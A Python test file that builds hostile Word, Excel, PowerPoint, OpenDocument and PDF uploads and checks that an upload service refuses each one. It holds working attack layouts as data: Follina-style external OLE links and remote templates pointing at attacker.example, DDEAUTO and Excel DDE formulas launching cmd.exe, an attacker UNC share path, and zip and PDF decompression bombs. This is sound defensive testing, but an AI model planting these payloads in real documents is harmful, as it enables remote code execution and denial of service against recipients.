"""A hostile-file corpus, built here by code, against every upload that takes Office documents.

Each file is a real plan (so the importer would otherwise accept it) or a real small document
with one hostile part added: macros, ActiveX, an external OLE object (the "Follina" layout), an
attached template fetched from a server, DDE fields and links, embedded programs and packages,
zip bombs (honest, tightly packed, lying about their size, of too many parts), and the same
for OpenDocument. Each goes through the evidence upload page and service and, where the importer
takes its kind, through the plan upload page and service: every one is refused with a message
that says what is wrong, and nothing is saved.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from tests.imports.readers import builders
from tests.progress.conftest import DEADLINE
from vawdasv.audit.models import AuditEntry
from vawdasv.imports import sandbox, uploads
from vawdasv.imports.document import UnreadableDocument
from vawdasv.imports.enums import ImportStatus
from vawdasv.imports.models import PlanImport
from vawdasv.progress import services
from vawdasv.progress.evidence import add_evidence_file
from vawdasv.progress.models import ProgressUpdate, UpdateEvidence

RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
ATTACKER = "http://attacker.example/payload.html!"
MEGABYTE = 1024 * 1024

MACROS = "contains macros"
EMBEDDED = "contains embedded objects or controls"
EXTERNAL = "links to content outside the document"
DDE = "contains a DDE field or link"
BOMB = "zip bomb"
DAMAGED = "damaged"


# Building the corpus -------------------------------------------------------------------------


def rezip(data: bytes, add: dict[str, bytes] | None = None, edit: dict | None = None) -> bytes:
    """The package with members added or edited (edit: name -> function of the old bytes)."""
    add, edit = add or {}, edit or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            content = source.read(info)
            if info.filename in edit:
                content = edit[info.filename](content)
            target.writestr(info, content, zipfile.ZIP_DEFLATED)
        for name, content in add.items():
            target.writestr(name, content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def relationship(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    element = f'<Relationship Id="rId900" Type="{RELATIONSHIPS}/{kind}" Target="{target}" {mode}/>'
    return element.encode()


def with_relationship(rel: bytes) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"</Relationships>", rel + b"</Relationships>")


def relationships_part(*rels: bytes) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        + f'<Relationships xmlns="{PACKAGE_RELATIONSHIPS}">'.encode()
        + b"".join(rels)
        + b"</Relationships>"
    )


def with_paragraph(paragraph: str) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"<w:sectPr", paragraph.encode() + b"<w:sectPr", 1)


@functools.cache
def plan_docx() -> bytes:
    return builders.plan_docx()


@functools.cache
def plan_xlsx() -> bytes:
    return builders.plan_xlsx()


def docx(add: dict[str, bytes] | None = None, edit: dict | None = None) -> bytes:
    return rezip(plan_docx(), add, edit)


def xlsx(add: dict[str, bytes] | None = None, edit: dict | None = None) -> bytes:
    return rezip(plan_xlsx(), add, edit)


DOCUMENT_RELS = "word/_rels/document.xml.rels"
DDE_SIMPLE = (
    "<w:p><w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" '>"
    "<w:r><w:t>Loading</w:t></w:r></w:fldSimple></w:p>"
)
# Word splits a field's code over runs as it pleases; "DD" + "EAUTO" is still a DDE field.
DDE_SPLIT = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
    '<w:r><w:instrText xml:space="preserve">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
    "</w:instrText></w:r>"
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
EXCEL_DDE_FORMULA = (
    b'<row r="999"><c r="A999"><f>cmd|\' /C calc\'!A0</f><v>0</v></c></row></sheetData>'
)


def lying_about_its_size(data: bytes, member: str, real: bytes, claimed: int) -> bytes:
    """The package with one more member whose headers claim `claimed` bytes, not len(real)."""
    packed = rezip(data, add={member: real})
    name = member.encode()
    patched = bytearray(packed)
    # Local header: the sizes sit 22 bytes after "PK\3\4"; central directory: 24 after "PK\1\2".
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := patched.find(signature, start)) >= 0:
            name_at = start + (30 if signature == b"PK\x03\x04" else 46)
            if patched[name_at : name_at + len(name)] == name:
                patched[start + offset : start + offset + 4] = struct.pack("<I", claimed)
            start += 4
    return bytes(patched)


@functools.cache
def zeros_member(size: int) -> bytes:
    return bytes(size)


def too_many_parts(data: bytes) -> bytes:
    return rezip(data, add={f"customXml/extra{n}.xml": b"<a/>" for n in range(6_000)})


def odf(members: dict[str, bytes], content: bytes = b"") -> bytes:
    """A small OpenDocument text: mimetype first and stored, as LibreOffice writes it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", b"application/vnd.oasis.opendocument.text")
        body = content or b"<text:p>Training report</text:p>"
        archive.writestr(
            "content.xml",
            b'<?xml version="1.0" encoding="UTF-8"?><office:document-content '
            b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
            b'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
            b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
            b'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>'
            + body
            + b"</office:text></office:body></office:document-content>",
            zipfile.ZIP_DEFLATED,
        )
        archive.writestr("META-INF/manifest.xml", b"<manifest:manifest/>", zipfile.ZIP_DEFLATED)
        for name, data in members.items():
            archive.writestr(name, data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def pptx_with_external_ole() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("ppt/presentation.xml", b"<p:presentation/>")
        archive.writestr(
            "ppt/slides/_rels/slide1.xml.rels",
            relationships_part(relationship("oleObject", ATTACKER)),
        )
    return out.getvalue()


# Name, builder, what the message must say. Word and Excel: both evidence and imports take them.
OFFICE_CASES: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("macros", "plan.docx", lambda: docx(add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), MACROS),
    (
        "macro-enabled content type",
        "plan.docx",
        lambda: docx(
            edit={
                "[Content_Types].xml": lambda xml: xml.replace(
                    b"wordprocessingml.document.main+xml",
                    b"ms-word.document.macroEnabled.main+xml",
                )
            }
        ),
        MACROS,
    ),
    (
        "activex control",
        "plan.docx",
        lambda: docx(add={"word/activeX/activeX1.xml": b"<a/>"}),
        EMBEDDED,
    ),
    (
        "follina: external OLE object",
        "plan.docx",
        lambda: docx(edit={DOCUMENT_RELS: with_relationship(relationship("oleObject", ATTACKER))}),
        EXTERNAL,
    ),
    (
        "external attached template",
        "plan.docx",
        lambda: docx(
            add={
                "word/_rels/settings.xml.rels": relationships_part(
                    relationship("attachedTemplate", "http://attacker.example/t.dotm")
                )
            }
        ),
        EXTERNAL,
    ),
    (
        "external target mode written as a character reference",
        "plan.docx",
        lambda: docx(
            edit={
                DOCUMENT_RELS: with_relationship(
                    relationship("oleObject", ATTACKER, 'TargetMode="&#69;xternal"')
                )
            }
        ),
        EXTERNAL,
    ),
    (
        "DDE in a simple field",
        "plan.docx",
        lambda: docx(edit={"word/document.xml": with_paragraph(DDE_SIMPLE)}),
        DDE,
    ),
    (
        "DDEAUTO split over runs",
        "plan.docx",
        lambda: docx(edit={"word/document.xml": with_paragraph(DDE_SPLIT)}),
        DDE,
    ),
    (
        "embedded executable",
        "plan.docx",
        lambda: docx(add={"word/embeddings/setup.exe": b"MZ\x90\x00" + bytes(60)}),
        EMBEDDED,
    ),
    (
        "embedded OLE object",
        "plan.docx",
        lambda: docx(add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}),
        EMBEDDED,
    ),
    (
        "embedded package",
        "plan.docx",
        lambda: docx(
            add={"word/embeddings/Microsoft_Word_Document.docx": b"PK\x03\x04"},
            edit={
                DOCUMENT_RELS: with_relationship(
                    relationship("package", "embeddings/Microsoft_Word_Document.docx", "")
                )
            },
        ),
        EMBEDDED,
    ),
    (
        "zip bomb: 100 MB of zeros",
        "plan.docx",
        lambda: docx(add={"word/media/image1.emf": zeros_member(100 * MEGABYTE)}),
        BOMB,
    ),
    (
        "zip bomb: a member packed far too tightly",
        "plan.docx",
        lambda: docx(add={"word/media/image1.emf": zeros_member(2 * MEGABYTE)}),
        BOMB,
    ),
    (
        "zip bomb: a member lying about its size",
        "plan.docx",
        lambda: lying_about_its_size(
            plan_docx(), "word/media/image9.emf", zeros_member(200_000), 1_000
        ),
        DAMAGED,
    ),
    (
        "zip bomb: too many parts",
        "plan.docx",
        lambda: too_many_parts(plan_docx()),
        "has at most 5,000",
    ),
    (
        "excel DDE formula",
        "plan.xlsx",
        lambda: xlsx(
            edit={
                "xl/worksheets/sheet1.xml": lambda xml: xml.replace(
                    b"</sheetData>", EXCEL_DDE_FORMULA
                )
            }
        ),
        DDE,
    ),
    (
        "excel DDE link",
        "plan.xlsx",
        lambda: xlsx(
            add={
                "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" '
                b'ddeTopic="/c calc"/></externalLink>'
            }
        ),
        DDE,
    ),
    (
        "excel link to a workbook on another server",
        "plan.xlsx",
        lambda: xlsx(
            add={
                "xl/externalLinks/_rels/externalLink1.xml.rels": relationships_part(
                    relationship("externalLinkPath", "file:///\\\\attacker\\share\\book.xlsx")
                )
            }
        ),
        EXTERNAL,
    ),
    ("excel macros", "plan.xlsx", lambda: xlsx(add={"xl/vbaProject.bin": b"\xd0\xcf"}), MACROS),
]

# Kinds only evidence takes.
EVIDENCE_ONLY_CASES: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("powerpoint: external OLE object", "slides.pptx", pptx_with_external_ole, EXTERNAL),
    (
        "odf: Basic macros",
        "report.odt",
        lambda: odf({"Basic/Standard/Module1.xml": b"<m/>"}),
        MACROS,
    ),
    ("odf: scripts", "report.odt", lambda: odf({"Scripts/python/run.py": b"import os"}), MACROS),
    (
        "odf: embedded OLE object",
        "report.odt",
        lambda: odf({"Object 1": b"\xd0\xcf\x11\xe0" + bytes(60)}),
        EMBEDDED,
    ),
    (
        "odf: object fetched from another server",
        "report.odt",
        lambda: odf({}, b'<draw:object xlink:href="http://attacker.example/x.odt"/>'),
        EXTERNAL,
    ),
    (
        "odf: DDE connection",
        "report.odt",
        lambda: odf({}, b'<text:dde-connection-decl office:dde-application="cmd"/>'),
        DDE,
    ),
    (
        "odf: macro run on opening",
        "report.odt",
        lambda: odf(
            {},
            b'<script:event-listener script:event-name="dom:load" xlink:href='
            b'"vnd.sun.star.script:Standard.Module1.Main?language=Basic"/>',
        ),
        MACROS,
    ),
    (
        "odf: zip bomb",
        "report.odt",
        lambda: odf({"Pictures/big.svm": zeros_member(100 * MEGABYTE)}),
        BOMB,
    ),
]

ALL_EVIDENCE_CASES = OFFICE_CASES + EVIDENCE_ONLY_CASES


def _ids(cases: list) -> list[str]:
    return [case[0] for case in cases]


# Evidence ------------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _no_document_read_before():
    """Every import here reads its document afresh in the worker process."""
    sandbox.clear_cache()


@pytest.fixture
def progress_round(world):
    return services.open_round(
        actor=world.admin, strategy=world.strategy, period_label="2025/26 Q2", deadline=DEADLINE
    )


def _evidence_url(progress_round, action) -> str:
    return reverse(
        "progress:evidence-file", kwargs={"pk": progress_round.pk, "action_pk": action.pk}
    )


def _nothing_saved_as_evidence(media_root: Path) -> None:
    assert not UpdateEvidence.objects.exists()
    assert not ProgressUpdate.objects.exists()
    stored = (
        [path for path in media_root.rglob("*") if path.is_file()] if media_root.exists() else []
    )
    assert stored == []


@pytest.mark.parametrize(
    ("case", "name", "build", "message"), ALL_EVIDENCE_CASES, ids=_ids(ALL_EVIDENCE_CASES)
)
def test_the_evidence_page_refuses_a_hostile_file_saying_why_and_saves_nothing(
    client,
    world,
    progress_round,
    settings,
    case,
    name,
    build,
    message,
):
    client.force_login(world.lead)
    response = client.post(
        _evidence_url(progress_round, world.police_action),
        {"file-title": "Report", "file-file": SimpleUploadedFile(name, build())},
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert "govuk-error-summary" in page
    assert f"“{name}” " in page
    assert message in page
    _nothing_saved_as_evidence(Path(settings.MEDIA_ROOT))


@pytest.mark.parametrize(
    ("case", "name", "build", "message"), ALL_EVIDENCE_CASES, ids=_ids(ALL_EVIDENCE_CASES)
)
def test_the_evidence_service_refuses_a_hostile_file_saying_why_and_saves_nothing(
    world,
    progress_round,
    settings,
    case,
    name,
    build,
    message,
):
    with pytest.raises(ValidationError) as refused:
        add_evidence_file(
            actor=world.lead,
            progress_round=progress_round,
            action=world.police_action,
            title="Report",
            uploaded_file=SimpleUploadedFile(name, build()),
        )
    assert message in " ".join(refused.value.message_dict["file"])
    _nothing_saved_as_evidence(Path(settings.MEDIA_ROOT))


def test_a_word_document_with_a_hyperlink_and_a_chart_is_still_accepted_as_evidence(
    world,
    progress_round,
):
    chart_rels = relationships_part(
        relationship("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", "")
    )
    data = docx(
        add={
            "word/charts/_rels/chart1.xml.rels": chart_rels,
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": plan_xlsx(),
        },
        edit={DOCUMENT_RELS: with_relationship(relationship("hyperlink", "https://gov.wales/"))},
    )
    evidence = add_evidence_file(
        actor=world.lead,
        progress_round=progress_round,
        action=world.police_action,
        title="Report with a chart",
        uploaded_file=SimpleUploadedFile("report.docx", data),
    )
    assert evidence.file_name == "report.docx"


# Plan imports --------------------------------------------------------------------------------


def _nothing_saved_as_import(media_root: Path) -> None:
    assert not PlanImport.objects.exists()
    assert not AuditEntry.objects.filter(content_type__model="planimport").exists()
    assert not (media_root / "imports").exists()


@pytest.mark.parametrize(("case", "name", "build", "message"), OFFICE_CASES, ids=_ids(OFFICE_CASES))
def test_the_import_page_refuses_a_hostile_plan_saying_why_and_keeps_nothing(
    world, settings, django_capture_on_commit_callbacks, case, name, build, message
):
    client = Client()
    client.force_login(world.admin)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            "/imports/new/cardiff-vale/",
            {"document": SimpleUploadedFile(name, build()), "pasted_text": ""},
        )
    # Read by the background task (at once in tests): the import is refused, saying why.
    assert response.status_code == 302
    page = client.get(response.url).content.decode()
    assert "govuk-error-summary" in page
    assert message in page
    plan_import = PlanImport.objects.get()
    assert plan_import.status == ImportStatus.REFUSED
    assert plan_import.strategy is None
    # The hostile document itself is not kept.
    assert not list((Path(settings.MEDIA_ROOT) / "imports").glob("*"))


@pytest.mark.parametrize(("case", "name", "build", "message"), OFFICE_CASES, ids=_ids(OFFICE_CASES))
def test_the_import_service_refuses_a_hostile_plan_saying_why_and_saves_nothing(
    world, settings, case, name, build, message
):
    with pytest.raises(UnreadableDocument) as refused:
        uploads.create_import(
            actor=world.admin, partnership=world.partnership, filename=name, data=build()
        )
    assert message in str(refused.value)
    _nothing_saved_as_import(Path(settings.MEDIA_ROOT))


def test_the_same_plan_without_its_hostile_parts_imports(world):
    plan_import = uploads.create_import(
        actor=world.admin, partnership=world.partnership, filename="plan.docx", data=plan_docx()
    )
    assert plan_import.original_filename == "plan.docx"


# Review reports (reviews app): Word reports go through the same checker -----------------------

REVIEW_CASES = [case for case in OFFICE_CASES if case[1].endswith(".docx")]


@pytest.fixture
def safeguarding_review(world):
    from vawdasv.reviews import services as review_services

    return review_services.create_review(
        actor=world.admin,
        partnership=world.partnership,
        data={"kind": "susr", "reference": "CV-HOSTILE-01", "status": "published"},
    )


@pytest.mark.parametrize(("case", "name", "build", "message"), REVIEW_CASES, ids=_ids(REVIEW_CASES))
def test_a_review_report_upload_refuses_a_hostile_word_file_saying_why_and_keeps_nothing(
    world, settings, safeguarding_review, case, name, build, message
):
    from vawdasv.reviews import services as review_services
    from vawdasv.reviews.models import ReviewFile

    with pytest.raises(ValidationError) as refused:
        review_services.add_review_file(
            actor=world.admin, review=safeguarding_review, document="report", language="en",
            name=name, data=build(),
        )  # fmt: skip
    assert message in " ".join(refused.value.messages)
    assert not ReviewFile.objects.exists()
    assert not (Path(settings.MEDIA_ROOT) / "reviews").exists()


def test_a_review_report_pdf_that_unpacks_far_past_its_size_is_refused_before_it_is_read(
    world, safeguarding_review
):
    import zlib

    from vawdasv.reviews import services as review_services

    packer = zlib.compressobj(9)
    chunk = bytes(MEGABYTE)
    # One stream of 80 MB of zeros (the limit for one stream is 64 MB), packed chunk by chunk.
    bomb = b"".join(packer.compress(chunk) for _ in range(80)) + packer.flush()
    data = (
        b"%PDF-1.4\n1 0 obj\n<< /Length "
        + str(len(bomb)).encode()
        + b" /Filter /FlateDecode >>\nstream\n"
        + bomb
        + b"\nendstream\nendobj\n%%EOF\n"
    )
    with pytest.raises(ValidationError) as refused:
        review_services.check_upload(world.partnership, "report.pdf", data)
    assert "unpacks to more than" in " ".join(refused.value.messages)
